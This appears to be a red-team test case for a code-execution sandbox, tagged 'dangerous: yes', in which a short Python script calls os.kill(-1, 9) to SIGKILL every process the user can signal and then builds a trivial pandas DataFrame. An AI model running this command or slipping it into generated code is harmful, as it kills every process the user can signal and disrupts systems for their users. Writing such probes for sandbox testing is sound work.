# technique: os.kill(-1, SIGKILL) - every process this uid may signal (all of them for root without a pid namespace)
# goal: signal
# dangerous: yes
# redteam: E49
import os

import pandas as pd

os.kill(-1, 9)
df = pd.DataFrame({"killed": [-1]})
